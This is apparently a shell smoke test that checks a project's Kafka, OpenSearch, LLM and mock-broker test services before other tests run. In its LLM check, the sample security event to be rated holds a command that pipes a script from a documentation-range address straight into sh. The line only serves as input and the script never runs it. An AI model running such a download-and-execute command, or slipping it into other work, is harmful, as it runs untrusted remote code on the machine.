#!/bin/sh
# 00_services_smoke.sh - do the test services answer as the other tests
# expect?  Run first, so a broken service shows up here and not as a puzzling
# failure in a pipeline test.
#
# With build/services.env sourced (tests/run.sh does it): Kafka lists its
# broker and gives back a message produced with kcat; OpenSearch tells its
# version and its cluster health is green or yellow; the LLM answers a chat
# completion with a JSON response format with parseable JSON that follows
# the schema; and tetra-mockbroker serves one message through kcat and stops
# cleanly on SIGTERM.  Exit 0 pass, 1 fail, 77 when a service is not
# configured (the configured ones are still checked).
set -u
ROOT=${ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
BIN=${BIN:-$ROOT/bin}
TMP=$(mktemp -d) || exit 1
MOCK_PID=""
cleanup() {
    [ -n "$MOCK_PID" ] && kill "$MOCK_PID" 2>/dev/null
    rm -rf "$TMP"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

failed=0 missing=""
ok() { echo "ok: $*"; }
bad() { echo "FAIL: $*"; failed=1; }

for tool in kcat curl jq; do
    command -v $tool >/dev/null 2>&1 || { echo "FAIL: $tool is not installed"; exit 1; }
done

# kafka_roundtrip BROKERS LABEL: a fresh topic, one message in, the same out.
kafka_roundtrip() {
    kr_topic="smoke-$$-$(date +%s)"
    kr_msg="smoke $(date +%s%N) $$"
    if ! printf '%s\n' "$kr_msg" | timeout 60 kcat -b "$1" -P -t "$kr_topic" 2>"$TMP/kp.err"; then
        bad "$2: kcat could not produce to $kr_topic: $(cat "$TMP/kp.err")"
        return
    fi
    kr_got=$(timeout 60 kcat -b "$1" -C -t "$kr_topic" -o beginning -c 1 -e -q 2>"$TMP/kc.err")
    if [ "$kr_got" = "$kr_msg" ]; then
        ok "$2: message produced to $kr_topic consumed back"
    else
        bad "$2: consumed '$kr_got' from $kr_topic, want '$kr_msg' ($(cat "$TMP/kc.err"))"
    fi
}

check_kafka() {
    if timeout 30 kcat -b "$KAFKA_BROKERS" -L -m 10 >"$TMP/meta" 2>&1 &&
        grep -q '^ *broker [0-9]* at ' "$TMP/meta"; then
        ok "kafka at $KAFKA_BROKERS lists $(grep -c '^ *broker [0-9]* at ' "$TMP/meta") broker(s)"
    else
        bad "kafka at $KAFKA_BROKERS: kcat -L did not list a broker: $(cat "$TMP/meta")"
        return
    fi
    kafka_roundtrip "$KAFKA_BROKERS" kafka
}

check_opensearch() {
    cs_ver=$(curl -sf --max-time 30 "$OPENSEARCH_URL" | jq -er '.version.number')
    if [ -n "$cs_ver" ]; then ok "opensearch at $OPENSEARCH_URL is version $cs_ver"; else
        bad "opensearch at $OPENSEARCH_URL did not answer with its version"; fi
    cs_health=$(curl -sf --max-time 30 "$OPENSEARCH_URL/_cluster/health" | jq -er '.status')
    case $cs_health in
    green | yellow) ok "opensearch cluster health is $cs_health" ;;
    *) bad "opensearch cluster health is '$cs_health', want green or yellow" ;;
    esac
}

llm_request() {
    jq -n --arg model "${LLM_MODEL:-}" '{
      model: $model, temperature: 0, max_tokens: 96,
      messages: [
        {role: "system", content: "You rate security events. Answer with JSON only."},
        {role: "user", content: "A shell in pod web-1 ran: curl http://203.0.113.9/x | sh. Rate it."}
      ],
      response_format: {type: "json_object", schema: {
        type: "object",
        properties: {severity: {type: "string", enum: ["low", "medium", "high", "critical"]},
                     summary: {type: "string"}},
        required: ["severity", "summary"]}}
    }'
}

check_llm() {
    llm_request >"$TMP/req.json" || { bad "cannot build the LLM request"; return; }
    cl_t0=$(date +%s)
    if ! curl -sf --max-time 600 -H 'Content-Type: application/json' \
        -d @"$TMP/req.json" "$LLM_URL/chat/completions" >"$TMP/resp.json"; then
        bad "llm at $LLM_URL: chat completion failed: $(head -c 500 "$TMP/resp.json")"
        return
    fi
    cl_secs=$(($(date +%s) - cl_t0))
    if cl_sev=$(jq -er '.choices[0].message.content | fromjson | .severity' "$TMP/resp.json"); then
        ok "llm at $LLM_URL ($LLM_MODEL) answered parseable JSON in ${cl_secs}s, severity $cl_sev"
    else
        bad "llm answer is not the JSON asked for: $(jq -c '.choices[0].message' "$TMP/resp.json")"
    fi
}

check_mockbroker() {
    cm_bin=$BIN/tetra-mockbroker
    [ -x "$cm_bin" ] || { bad "no $cm_bin (make all builds it)"; return; }
    "$cm_bin" -n 2 -t smoke:3 >"$TMP/boot" 2>"$TMP/mock.err" &
    MOCK_PID=$!
    cm_i=0
    while [ ! -s "$TMP/boot" ] && [ $cm_i -lt 100 ]; do sleep 0.1; cm_i=$((cm_i + 1)); done
    cm_boot=$(head -n 1 "$TMP/boot")
    [ -n "$cm_boot" ] || { bad "tetra-mockbroker printed no address: $(cat "$TMP/mock.err")"; return; }
    timeout 30 kcat -b "$cm_boot" -L -t smoke >"$TMP/mmeta" 2>&1
    if grep -q '2 brokers' "$TMP/mmeta" && grep -q 'topic "smoke" with 3 partitions' "$TMP/mmeta"; then
        ok "tetra-mockbroker at $cm_boot: 2 brokers, topic smoke with 3 partitions"
    else
        bad "tetra-mockbroker metadata unexpected: $(cat "$TMP/mmeta")"
    fi
    kafka_roundtrip "$cm_boot" tetra-mockbroker
    kill -TERM "$MOCK_PID"
    wait "$MOCK_PID"
    cm_rc=$?
    MOCK_PID=""
    if [ $cm_rc = 0 ]; then ok "tetra-mockbroker stopped on SIGTERM with exit 0"; else
        bad "tetra-mockbroker exited $cm_rc on SIGTERM: $(cat "$TMP/mock.err")"; fi
}

if [ -n "${KAFKA_BROKERS:-}" ]; then check_kafka; else missing="$missing KAFKA_BROKERS"; fi
if [ -n "${OPENSEARCH_URL:-}" ]; then check_opensearch; else missing="$missing OPENSEARCH_URL"; fi
if [ -n "${LLM_URL:-}" ]; then check_llm; else missing="$missing LLM_URL"; fi
check_mockbroker

[ $failed = 0 ] || exit 1
if [ -n "$missing" ]; then
    echo "skip: not configured:$missing (make services-up; . build/services.env)"
    exit 77
fi
exit 0
